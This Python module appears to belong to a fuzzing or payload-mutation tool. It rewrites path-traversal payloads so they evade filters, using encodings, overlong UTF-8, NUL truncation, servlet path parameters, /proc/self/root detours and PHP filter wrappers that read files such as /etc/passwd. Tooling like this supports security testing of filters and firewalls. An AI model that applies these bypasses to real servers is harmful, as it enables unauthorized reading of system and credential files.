"""Paths: what a file system, a server or a runtime reads as the same path.

Source: POSIX.1 4.16 (pathname resolution); Microsoft, Naming Files, Paths, and Namespaces; RFC 3986 5.2.4 and 6.2; the
servlet specification on path parameters; PHP's manual on wrappers; RFC 3629 on overlong forms.
"""

import re
from dataclasses import replace
from random import Random

from .html import mixed
from .model import Attack, mutation

PTRAV = ("ptrav",)
UNIX, WINDOWS, PHP, JAVA = "unix", "windows", "php", "java"


def unsuited(attack: Attack) -> bool:
    """Whether the payload is no plain path."""
    return "://" in attack.payload or "\0" in attack.payload


@mutation("path-dots", PTRAV, "`.` is the folder itself.", (UNIX, WINDOWS, JAVA))
def dots(attack: Attack, rng: Random) -> str | None:
    """`/./`."""
    return None if unsuited(attack) else re.sub(r"(?<=[\w.])([/\\])(?=[\w.])", r"\1.\1", attack.payload)


@mutation("path-slashes", PTRAV, "Several slashes are one.", (UNIX, WINDOWS, JAVA))
def slashes(attack: Attack, rng: Random) -> str | None:
    """`//`."""
    if unsuited(attack):
        return None
    return re.sub(r"(?<=[\w.])([/\\])(?=[\w.])", lambda m: m[1] * rng.randrange(2, 5), attack.payload)


@mutation("path-detour", PTRAV, "A folder and `..` go back to where they came from.", (UNIX, WINDOWS))
def detour(attack: Attack, rng: Random) -> str | None:
    """`etc/../etc`."""
    if unsuited(attack):
        return None
    return re.sub(r"(?<![\w.])(etc|windows|proc|var|WEB-INF)(?=([/\\]))", r"\1\2..\2\1", attack.payload, count=1)


@mutation("path-folder-before", PTRAV, "One more folder in front is undone by one more `..`.", (UNIX, WINDOWS))
def folder_before(attack: Attack, rng: Random) -> str | None:
    """`images/../`."""
    if unsuited(attack) or not attack.payload.startswith(".."):
        return None
    slash = "\\" if "\\" in attack.payload else "/"
    return f"{rng.choice(('images', 'de_DE', 'a', 'files-2'))}{slash}..{slash}{attack.payload}"


@mutation("path-deeper", PTRAV, "Above the root there is only the root.", (UNIX, WINDOWS))
def deeper(attack: Attack, rng: Random) -> str | None:
    """More `../`."""
    found = re.match(r"\.\.([/\\])", attack.payload)
    return None if not found or unsuited(attack) else found[0] * rng.randrange(2, 14) + attack.payload


@mutation("path-backslashes", PTRAV, "Windows parts folders by both slashes.", (WINDOWS,))
def backslashes(attack: Attack, rng: Random) -> str | None:
    """Backslashes, some or all."""
    if unsuited(attack):
        return None
    every = rng.random() < 0.5
    return re.sub(r"[/\\]", lambda m: "\\" if every else rng.choice("/\\"), attack.payload)


@mutation("path-case", PTRAV, "File names of Windows have no case.", (WINDOWS,))
def case(attack: Attack, rng: Random) -> str | None:
    """Mixed case."""
    return None if unsuited(attack) else mixed(attack.payload, rng)


@mutation("path-trailing-dots", PTRAV, "Windows drops dots and blanks at the end of a name.", (WINDOWS,))
def trailing_dots(attack: Attack, rng: Random) -> str | None:
    """Dots and blanks behind."""
    return None if unsuited(attack) else attack.payload + rng.choice((".", "...", " ", ". .", "::$DATA"))


@mutation(
    "path-nul-end",
    PTRAV,
    "What reads C strings ends the path at NUL (PHP before 5.3.4, Java before 7u40).",
    (PHP, JAVA, UNIX, WINDOWS),
)
def nul_end(attack: Attack, rng: Random) -> str | None:
    """NUL and an extension behind."""
    return None if "\0" in attack.payload else attack.payload + "\0" + rng.choice((".png", ".html", "", ".jpg.txt"))


@mutation("path-question-end", PTRAV, "What the path of a URL names does not change by its query or fragment.", (JAVA,))
def question_end(attack: Attack, rng: Random) -> str:
    """`?` or `#` behind."""
    return attack.payload + rng.choice(("?x", "#", "?.png", "#.html"))


@mutation("path-parameters", PTRAV, "Servlet containers drop path parameters, so `..;x` is `..`.", (JAVA,))
def parameters(attack: Attack, rng: Random) -> str | None:
    """`..;/`."""
    text = re.sub(r"\.\./", lambda m: f"..;{rng.choice(('', 'x', 'a=b'))}/", attack.payload)
    return None if unsuited(attack) else text


@mutation("path-removed-once", PTRAV, "A filter that deletes `../` once leaves one.", (UNIX, WINDOWS, PHP))
def removed_once(attack: Attack, rng: Random) -> str | None:
    """`....//`."""
    form = rng.choice(("....{0}{0}", "...{0}.{0}"))
    return None if unsuited(attack) else re.sub(r"\.\.([/\\])", lambda m: form.format(m[1]), attack.payload)


def rewritten(attack: Attack, dot: str, slash: str) -> str | None:
    """The payload with dots of `..` and the slashes behind them written otherwise."""
    if unsuited(attack) or ".." not in attack.payload:
        return None
    return re.sub(r"\.\.([/\\])", lambda m: dot * 2 + slash, attack.payload)


@mutation(
    "path-overlong",
    PTRAV,
    "Decoders that do not refuse overlong UTF-8 read C0 AE as a dot and C0 AF as a slash.",
    (UNIX, WINDOWS, JAVA),
    codes=True,
)
def overlong(attack: Attack, rng: Random) -> str | None:
    """Overlong dots and slashes as bytes."""
    forms = (
        ("\udcc0\udcae", "\udcc0\udcaf"),
        ("\udce0\udc80\udcae", "\udce0\udc80\udcaf"),
        (".", "\udcc0\udcaf"),
        ("\udcc0\udcae", "/"),
    )
    return rewritten(attack, *rng.choice(forms))


@mutation("path-overlong-escaped", PTRAV, "The same, decoded by a second decoder.", (UNIX, WINDOWS, JAVA), codes=True)
def overlong_escaped(attack: Attack, rng: Random) -> str | None:
    """`%c0%ae%c0%ae%c0%af`."""
    return rewritten(attack, *rng.choice((("%c0%ae", "%c0%af"), ("%c0%ae", "/"), ("%e0%80%ae", "%e0%80%af"))))


@mutation("path-percent", PTRAV, "A second decoder behind the server.", (UNIX, WINDOWS, JAVA), codes=True)
def percent(attack: Attack, rng: Random) -> str | None:
    """`%2e%2e%2f`."""
    return rewritten(
        attack,
        *rng.choice(
            (
                ("%2e", "%2f"),
                (".", "%2f"),
                ("%2E", "/"),
                (".", "%5c") if WINDOWS in attack.languages else ("%2e", "%2F"),
            )
        ),
    )


@mutation("path-percent-double", PTRAV, "Two more decoders behind the server.", (UNIX, WINDOWS, JAVA), codes=True)
def percent_double(attack: Attack, rng: Random) -> str | None:
    """`%252e%252e%252f`."""
    return rewritten(attack, *rng.choice((("%252e", "%252f"), (".", "%252f"), ("%252E", "/"))))


@mutation("path-percent-u", PTRAV, "IIS takes %uXXXX and maps look-alikes of the slash to it.", (WINDOWS,), codes=True)
def percent_u(attack: Attack, rng: Random) -> str | None:
    """`%u2215`."""
    return rewritten(attack, *rng.choice(((".", "%u2215"), (".", "%u2216"), ("%u002e", "%u002f"), (".", "%uEFC8"))))


@mutation("path-full-width", PTRAV, "NFKC makes ASCII of full-width signs.", (UNIX, WINDOWS), codes=True)
def full_width(attack: Attack, rng: Random) -> str | None:
    """Full-width dots and slashes."""
    return rewritten(attack, *rng.choice((("\uff0e", "\uff0f"), (".", "\uff0f"), ("\uff0e", "/"))))


@mutation("path-root-detour", PTRAV, "/proc/self/root is the root of Linux.", (UNIX,))
def root_detour(attack: Attack, rng: Random) -> str | None:
    """`/proc/self/root/etc/passwd`."""
    if unsuited(attack) or not attack.payload.startswith(("/etc", "/var", "/root", "/home")):
        return None
    return (
        rng.choice(("/proc/self/root", "/proc/self/cwd/../../../../..", "/dev/fd/../../proc/self/root"))
        + attack.payload
    )


@mutation("path-file-url", PTRAV, "A file URL names the same file; host and slashes may vary.", (UNIX, WINDOWS))
def file_url(attack: Attack, rng: Random) -> "str | Attack | None":
    """`file:///etc/passwd`."""
    if attack.payload.startswith("file://"):
        return re.sub(
            r"^file:///", rng.choice(("file:/", "FILE:///", "file://localhost/", "File:////")), attack.payload
        )
    if unsuited(attack) or not re.match(r"/[a-z]|[A-Za-z]:[\\/]", attack.payload) or attack.place == "path":
        return None
    return replace(
        attack,
        payload=f"{rng.choice(('file:///', 'file:/', 'FILE:///', 'file://localhost/'))}{attack.payload.lstrip('/')}",
    )


@mutation("path-wrapper", PTRAV, "PHP's wrappers open the same file.", (PHP,))
def wrapper(attack: Attack, rng: Random) -> str | None:
    """`php://filter/resource=`."""
    if unsuited(attack):
        return None
    heads = ("php://filter/resource=", "php://filter/read=convert.base64-encode/resource=", "PHP://filter/convert.base64-encode/resource=",
             "php://filter/string.rot13|convert.base64-encode/resource=", "compress.zlib://", "phar://", "glob://")  # fmt: skip
    return rng.choice(heads[:5]) + attack.payload


@mutation("path-wrapper-case", PTRAV, "The scheme of a wrapper has no case, nor have its parameters.", (PHP,))
def wrapper_case(attack: Attack, rng: Random) -> str:
    """`PhP://`."""
    return re.sub(r"^(php|data|expect|zip|phar|compress\.zlib)(?=:)", lambda m: mixed(m[0], rng), attack.payload)


@mutation("path-wrapper-chain", PTRAV, "Filters chain by | and by further read= and write=.", (PHP,))
def wrapper_chain(attack: Attack, rng: Random) -> str:
    """More filters in a row."""
    more = rng.choice(("convert.iconv.UTF8.UTF16|", "string.toupper|string.tolower|", "zlib.deflate|zlib.inflate|"))
    return re.sub(r"(?i)(?<=php://filter/)(read=)?", lambda m: f"{m[0]}{more}", attack.payload, count=1)


@mutation("path-truncation", PTRAV, "PHP before 5.3 cuts paths at 4,096 bytes and drops `/.` at the end.", (PHP, UNIX))
def truncation(attack: Attack, rng: Random) -> str | None:
    """Thousands of `/.` behind."""
    return None if unsuited(attack) else attack.payload + rng.choice(("/.", "./")) * 2048


@mutation("path-dots-many", PTRAV, "`./` in front does nothing, however often.", (UNIX, WINDOWS))
def dots_many(attack: Attack, rng: Random) -> str | None:
    """Hundreds of `./` in front."""
    return (
        None
        if unsuited(attack) or not attack.payload.startswith(".")
        else "./" * rng.randrange(100, 900) + attack.payload
    )


@mutation(
    "path-target-encoded",
    PTRAV,
    "A server decodes the path of a target before it resolves it (RFC 3986 6.2.2.2).",
    (UNIX, WINDOWS, JAVA),
    codes=True,
)
def target_encoded(attack: Attack, rng: Random) -> str | None:
    """Some or all letters of a target percent-encoded."""
    if attack.place != "path" or not attack.payload.startswith("/"):
        return None
    return re.sub(
        r"[A-Za-z.]", lambda m: f"%{ord(m[0]):02x}" if m[0] == "." or rng.random() < 0.3 else m[0], attack.payload
    )
